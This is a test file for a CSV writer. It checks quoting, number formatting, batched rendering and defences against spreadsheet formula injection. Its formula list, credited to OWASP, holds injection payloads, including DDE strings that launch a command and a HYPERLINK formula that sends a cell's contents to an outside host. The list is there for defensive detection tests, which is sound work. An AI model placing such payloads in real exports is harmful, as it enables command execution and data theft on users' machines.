import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { DictionaryBuilder, type Batch, type Column, type Dictionary } from "../../src/columns/index.ts";
import { codesOfRecords, CsvRenderer, isFormula, type ReleasedColumn, type RunBatch } from "../../src/sinks/index.ts";
import { NumberRenderer } from "../../src/sinks/render-number.ts";
import { batchesOf, tableOf, written, type TestColumn } from "./memory-sink.ts";

async function csv(columns: readonly TestColumn[], options = {}, sizes?: readonly number[]): Promise<string> {
  return (await written("csv", tableOf(columns), sizes, { csv: options })).toString("utf8");
}

describe("CSV writer", () => {
  test("quotes only where RFC 4180 needs it, and tells null from the empty text", async () => {
    const text = await csv([
      { name: "a", type: "string", values: ["plain", "with,comma", 'with "quote"', "two\nlines", "cr\rhere", "", null] },
      { name: "b c", type: "integer", as: "numbers", values: [1, -2, 0, -0, null, 9007199254740991, -9007199254740991] },
    ]);
    expect(text).toBe(
      'a,b c\nplain,1\n"with,comma",-2\n"with ""quote""",0\n"two\nlines",0\n"cr\rhere",\n"",9007199254740991\n,-9007199254740991\n',
    );
  });

  test("a null row of a one-column table is not a blank line", async () => {
    expect(await csv([{ name: "a", type: "string", values: [null, "x", ""] }])).toBe('a\n""\nx\n""\n');
    expect(await csv([{ name: "a", type: "number", as: "numbers", values: [null, 1.5] }])).toBe('a\n""\n1.5\n');
  });

  test("no records leave the header alone", async () => {
    expect(await csv([{ name: "a", type: "string", values: [] }, { name: "b", type: "string", values: [] }])).toBe("a,b\n");
  });

  test("header names are quoted like values, and a byte order mark cannot arise", async () => {
    expect(await csv([{ name: "\uFEFFa", type: "string", values: ["\uFEFFx"] }, { name: 'q"', type: "string", values: ["y"] }])).toBe(
      '"\uFEFFa","q"""\n"\uFEFFx",y\n',
    );
  });

  test("unused dictionary entries, and what lies behind the end of a batch, do not reach the file", async () => {
    const text = await csv([{ name: "a", type: "string", values: ["x", "y"], unused: ["CANARY-7", "=cmd()"] }]);
    expect(text).toBe("a\nx\ny\n");
  });

  test.each(["refuse", "quote", "keep"] as const)("formulas: %s", async (formulas) => {
    const payloads = FORMULAS;
    const harmless = ["-5", "+3.25", "-1e9", "-", "---", " -5", "12%", "a=b", "x@y.z", "1-2", "-5,5", "-10 to -6", "-0.5 to 2.25"]; // intervals as hierarchies write them
    for (const value of payloads) {
      const written = csv([{ name: "a", type: "string", values: [value] }], { formulas });
      if (formulas === "refuse") await expect(written).rejects.toMatchObject({ name: "DataError", code: "csv/formula", detail: { column: "a", records: 1 } });
      else expect(parse(await written, { relax_column_count: true, bom: false })[1]).toEqual([formulas === "quote" ? `'${value}` : value]);
    }
    const kept = parse(await csv([{ name: "a", type: "string", values: harmless }], { formulas })) as string[][];
    expect(kept.slice(1).map((row) => row[0])).toEqual(harmless);
    const header = csv([{ name: "=1+1", type: "string", values: ["x"] }], { formulas });
    if (formulas === "refuse") await expect(header).rejects.toMatchObject({ code: "csv/formula" });
    else expect(await header).toBe(formulas === "quote" ? "'=1+1\nx\n" : "=1+1\nx\n");
  });

  test("negative numbers in numeric columns are no formulas", async () => {
    expect(await csv([{ name: "n", type: "integer", values: ["-5", "-0", "007"] }])).toBe("n\n-5\n-0\n007\n");
  });

  test("a value that is not of the released type is refused without being quoted, but only once a record has it", async () => {
    const bad = csv([{ name: "n", type: "integer", values: ["1", "CANARY"] }]);
    await expect(bad).rejects.toMatchObject({ code: "output/not-of-type", detail: { column: "n", records: 1 } });
    await expect(bad).rejects.not.toThrow(/CANARY/);
    expect(await csv([{ name: "n", type: "integer", values: ["1"], unused: ["CANARY"] }])).toBe("n\n1\n");
    await expect(csv([{ name: "n", type: "integer", as: "numbers", values: [0.5] }])).rejects.toMatchObject({ code: "output/not-of-type" });
    await expect(csv([{ name: "n", type: "number", as: "numbers", values: [Infinity] }])).rejects.toMatchObject({ code: "output/not-of-type" });
  });

  test("codes outside the dictionary and changed dictionaries are defects, not output", async () => {
    const table = tableOf([{ name: "a", type: "string", values: ["x", "y"] }]);
    const wrongCode = { ...table, data: [{ ...table.data[0]!, codes: Int32Array.of(0, 5) }] } as typeof table;
    await expect(written("csv", wrongCode)).rejects.toMatchObject({ name: "InternalError", code: "sinks/batch" });
    const renderer = new CsvRenderer(table.columns, table.dictionaries);
    expect(() => renderer.check({ records: 2, columns: wrongCode.data })).toThrow(expect.objectContaining({ code: "sinks/batch" }) as Error);
    const other = tableOf([{ name: "a", type: "string", values: ["x", "z"] }]);
    await expect(written("csv", { ...table, data: other.data })).rejects.toMatchObject({ name: "InternalError", code: "sinks/batch" });
    const equalCopy = tableOf([{ name: "a", type: "string", values: ["x", "y"] }]);
    expect((await written("csv", { ...table, data: equalCopy.data })).toString()).toBe("a\nx\ny\n");
  });

  test("values longer than the buffer are written whole", async () => {
    const long = "é".repeat(1_500_000);
    const text = await csv([{ name: "a", type: "string", values: ["s", long, "s", long] }, { name: "b", type: "string", values: ["1", "2", "3", "4"] }]);
    expect(text).toBe(`a,b\ns,1\n${long},2\ns,3\n${long},4\n`);
  });

  test("an independent reader gives back every value, and the cut into batches does not show", async () => {
    const cell = fc.option(fc.string({ unit: fc.constantFrom("a", ",", '"', "\n", "\r", "é", "😀", " ", ";", "0", "-") , maxLength: 9 }), { nil: null });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cell, cell, fc.option(fc.integer(), { nil: null })), { maxLength: 30 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 3 }),
        async (rows, sizes) => {
          const columns: TestColumn[] = [
            { name: "x", type: "string", values: rows.map((r) => r[0]) },
            { name: "y", type: "string", values: rows.map((r) => r[1]) },
            { name: "z", type: "integer", as: "numbers", values: rows.map((r) => r[2]) },
          ];
          const whole = await csv(columns, { formulas: "keep" });
          expect(await csv(columns, { formulas: "keep" }, sizes)).toBe(whole);
          const read = parse(whole, { record_delimiter: "\n", skip_empty_lines: false }) as string[][];
          expect(read.slice(1)).toEqual(rows.map((r) => r.map((v) => (v === null ? "" : String(v)))));
        },
      ),
    );
  });

  test("many small columns, whose texts are prepared together, come back as columns that are not", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.integer({ min: 1, max: 70 }), { minLength: 1, maxLength: 9 }),
        fc.infiniteStream(fc.nat()),
        fc.nat({ max: 8 }),
        async (sizes, draws, numeric) => {
          const columns = sizes.map((size, c): TestColumn => {
            const drawn = Array.from({ length: 40 }, () => draws.next().value as number);
            return c === numeric
              ? { name: `c${c}`, type: "integer", as: "numbers", values: drawn.map((n) => (n % 9 === 0 ? null : n)) }
              : { name: `c${c}`, type: "string", values: drawn.map((n) => (n % 11 === 0 ? null : `${"é,".repeat(n % 3)}${n % size}`)) };
          });
          const read = parse(await csv(columns)) as string[][];
          const expected = Array.from({ length: 40 }, (_, i) => columns.map(({ values }) => (values[i] === null ? "" : String(values[i]))));
          expect(read.slice(1)).toEqual(expected);
        },
      ),
    );
  });

  test("the renderer resumes where the room ended and never writes beyond it", () => {
    const table = tableOf([
      { name: "x", type: "string", values: Array.from({ length: 50 }, (_, i) => "v".repeat(i % 7)) },
      { name: "y", type: "number", as: "numbers", values: Array.from({ length: 50 }, (_, i) => i / 3) },
    ]);
    const renderer = new CsvRenderer(table.columns, table.dictionaries);
    const [batch] = batchesOf(table);
    renderer.check(batch!);
    const whole = new Uint8Array(10_000);
    const end = renderer.render(batch!, whole, 0);
    expect(renderer.next).toBe(50);
    const room = new Uint8Array(renderer.maxRowBytes * 2 + 40).fill(0xee);
    const out = room.subarray(20, room.length - 20);
    const parts: Buffer[] = [];
    for (let from = 0; from < 50; from = renderer.next) {
      const at = renderer.render(batch!, out, 0, from);
      parts.push(Buffer.from(out.subarray(0, at)));
    }
    expect(Buffer.concat(parts).equals(whole.subarray(0, end))).toBe(true);
    expect([...room.subarray(0, 20), ...room.subarray(-20)].every((byte) => byte === 0xee)).toBe(true);
  });
});

describe("numbers", () => {
  const text = (value: number): string => {
    const out = new Uint8Array(64);
    return Buffer.from(out.subarray(0, new NumberRenderer().render(value, out, 0))).toString();
  };

  test.each([0, -0, 1, -1, 9, 10, 999_999_999, 1e9, 1_000_000_001, 2 ** 31, 2 ** 53 - 1, -(2 ** 53 - 1), 1e15, 123456789012345])("%d", (value) => {
    expect(text(value)).toBe(String(value + 0));
  });

  test("amounts have the text that the language gives them", () => {
    fc.assert(
      fc.property(fc.integer({ min: -1e12, max: 1e12 }), fc.constantFrom(10, 100, 1000, 1e4, 1e5, 1e6, 1e7, 3), (n, scale) => {
        expect(text(n / scale)).toBe(String(n / scale + 0));
      }),
      { numRuns: 5000 },
    );
    for (const value of [0.1, 0.25, -0.5, 1e-6, 1.5e-6, 9.9e-7, 999999999.99, -999999999.999999, 1e9 + 0.5, 0.30000000000000004]) {
      expect(text(value)).toBe(String(value));
    }
  });

  test("every double reads back as itself, cached or not", () => {
    const renderer = new NumberRenderer();
    const out = new Uint8Array(64);
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        for (let again = 0; again < 2; again++) {
          const read = Buffer.from(out.subarray(0, renderer.render(value, out, 0))).toString();
          expect(Number(read)).toBe(value + 0);
          expect(read.length).toBeLessThanOrEqual(25);
        }
      }),
      { numRuns: 2000 },
    );
  });
});

/** Starts that spreadsheets run, after the OWASP page on CSV injection, with spaces and full-width forms added. */
const FORMULAS = [
  "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\tx", " =1+1", "   @x",
  '=HYPERLINK("http://example.org?x="&A1,"more")', "+A1", "-A1", "=-5", "--A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "-5 to x", "-5 to 5()", "+1 916 555",
]; // prettier-ignore

test.each(FORMULAS)("%j is seen as a formula", (payload) => {
  expect(isFormula(payload)).toBe(true);
});

describe("records in runs", () => {
  const dictionary = (values: readonly string[]): Dictionary => {
    const builder = new DictionaryBuilder();
    for (const value of values) {
      const bytes = new TextEncoder().encode(value);
      builder.add(bytes, 0, bytes.length);
    }
    return builder.freeze();
  };
  const texts = dictionary(["a", "b,c", 'd"', "", "Los Angeles", "é"]);

  test("are rendered as one by one, into buffers of any size", () => {
    fc.assert(
      fc.property(
        fc.array(fc.boolean(), { minLength: 1, maxLength: 4 }),
        fc.array(fc.tuple(fc.array(fc.integer({ min: -1, max: 5 }), { minLength: 4, maxLength: 4 }), fc.integer({ min: 1, max: 9 })), { maxLength: 12 }),
        fc.integer({ min: 0, max: 200 }),
        (isNumber, runs, room) => {
          const released = isNumber.map((number, c): ReleasedColumn => ({ name: `c${c}`, type: number ? "number" : "string" }));
          const lengths = runs.map(([, length]) => length);
          const starts = Uint32Array.from([0, ...lengths].map((_, r) => lengths.slice(0, r).reduce((sum, length) => sum + length, 0)));
          const records = starts.at(-1)!;
          const values = Float64Array.from({ length: records }, (_, i) => (i % 4 === 3 ? NaN : i / 8));
          const columns = isNumber.map((number, c): Column =>
            number ? { kind: "numbers", values } : { kind: "codes", codes: Int32Array.from(runs, ([codes]) => codes[c]!), dictionary: texts });
          const inRuns: RunBatch = { records, starts, columns };
          const single: Batch = {
            records,
            columns: columns.map((column) => (column.kind === "codes" ? { ...column, codes: codesOfRecords(column.codes, inRuns) } : column)),
          };
          const renderer = new CsvRenderer(released, isNumber.map((number) => (number ? undefined : texts)));
          const out = new Uint8Array(renderer.maxRowBytes + room);
          const whole = (render: (from: number) => number): string => {
            let text = "";
            for (let from = 0; from < records; from = renderer.next) text += Buffer.from(out.subarray(0, render(from))).toString();
            return text;
          };
          const expected = Array.from({ length: records }, (_, i) =>
            single.columns.map((column) => (column.kind === "numbers" ? numberText(column.values[i]!) : codeText(column.codes[i]!, isNumber.length))).join(","));
          renderer.checkRuns(inRuns);
          const text = whole((from) => renderer.renderRuns(inRuns, out, 0, from));
          expect(text).toBe(whole((from) => renderer.render(single, out, 0, from)));
          if (isNumber.length > 1) expect(text).toBe(expected.map((row) => `${row}\n`).join(""));
        },
      ),
      { numRuns: 300 },
    );
  });
  const numberText = (value: number): string => (value === value ? String(value) : "");
  const codeText = (code: number, columns: number): string => ["a", '"b,c"', '"d"""', '""', "Los Angeles", "é"][code] ?? (columns === 1 ? '""' : "");

  test("have the same bytes from WebAssembly and from plain loops, whatever the room", () => {
    const amount = fc.oneof(
      { weight: 6, arbitrary: fc.integer({ min: -1e7, max: 1e7 }).map((cents) => cents / 100) },
      fc.constantFrom(NaN, 0, -0, 0.5, 9999, 10_000, 99_999_999, 99_999_999.99, 1e8, 1e8 - 0.5, 123_456_789.25, 0.005, 1 / 3, 1e21, 5e-324, -1e-7, 2 ** 53 - 1),
      fc.double({ noDefaultInfinity: true }),
    );
    const long = dictionary(["x".repeat(15), "y".repeat(16), "z".repeat(17), "é".repeat(40), "", 'q"'.repeat(20)]);
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom("text", "long", "number"), { minLength: 2, maxLength: 5 }),
        fc.array(fc.tuple(fc.array(fc.integer({ min: -1, max: 5 }), { minLength: 5, maxLength: 5 }), fc.integer({ min: 1, max: 40 })), { maxLength: 40 }),
        fc.array(amount, { minLength: 1, maxLength: 60 }),
        fc.integer({ min: 0, max: 4000 }),
        fc.constantFrom("," as const, ";" as const),
        (kinds, runs, amounts, room, delimiter) => {
          const starts = new Uint32Array(runs.length + 1);
          runs.forEach(([, length], r) => (starts[r + 1] = starts[r]! + length));
          const records = starts[runs.length]!;
          const values = Float64Array.from({ length: records }, (_, i) => amounts[(i * 7) % amounts.length]!);
          const dictionaries = kinds.map((kind) => (kind === "number" ? undefined : kind === "long" ? long : texts));
          const columns = kinds.map((kind, c): Column =>
            kind === "number" ? { kind: "numbers", values } : { kind: "codes", codes: Int32Array.from(runs, ([codes]) => codes[c]!), dictionary: dictionaries[c]! });
          const rendered = (kernelRecords: number): string => {
            const renderer = new CsvRenderer(kinds.map((kind, c) => ({ name: `c${c}`, type: kind === "number" ? "number" : "string" })), dictionaries, { delimiter, kernelRecords });
            const guarded = new Uint8Array(renderer.maxRowBytes + room + 32).fill(0xee);
            const out = guarded.subarray(0, renderer.maxRowBytes + room);
            let text = "";
            for (let from = 0; from < records; from = renderer.next) text += Buffer.from(out.subarray(0, renderer.renderRuns({ records, starts, columns }, out, 0, from))).toString();
            expect(guarded.subarray(-32).every((byte) => byte === 0xee)).toBe(true);
            return text;
          };
          expect(rendered(0)).toBe(rendered(Infinity));
        },
      ),
      { numRuns: 400 },
    );
  });

  test("longer than WebAssembly takes at once go on where it ended", () => {
    const starts = Uint32Array.of(0, 5, 40_000, 40_001, 90_000);
    const values = Float64Array.from({ length: 90_000 }, (_, i) => (i % 1000 === 0 ? i / 3 : i / 4));
    const batch: RunBatch = { records: 90_000, starts, columns: [{ kind: "codes", codes: Int32Array.of(0, 4, -1, 5), dictionary: texts }, { kind: "numbers", values }] };
    const rendered = (kernelRecords: number): Buffer => {
      const renderer = new CsvRenderer([{ name: "a", type: "string" }, { name: "n", type: "number" }], [texts, undefined], { kernelRecords });
      const out = new Uint8Array(5_000_000);
      return Buffer.from(out.subarray(0, renderer.renderRuns(batch, out, 0)));
    };
    expect(rendered(0).equals(rendered(Infinity))).toBe(true);
  });

  test("refusals tell how many records there are, not runs", () => {
    const renderer = new CsvRenderer([{ name: "f", type: "string" }], [dictionary(["=1+1", "fine"])]);
    const runs: RunBatch = { records: 9, starts: Uint32Array.of(0, 4, 6, 9), columns: [{ kind: "codes", codes: Int32Array.of(0, 1, 0), dictionary: texts }] };
    expect(() => renderer.checkRuns(runs)).toThrow(expect.objectContaining({ code: "csv/formula", detail: { column: "f", records: 7 } }));
    const outside: RunBatch = { ...runs, columns: [{ kind: "codes", codes: Int32Array.of(1, 2, 1), dictionary: texts }] };
    expect(() => renderer.checkRuns(outside)).toThrow(expect.objectContaining({ code: "sinks/batch" }));
  });
});
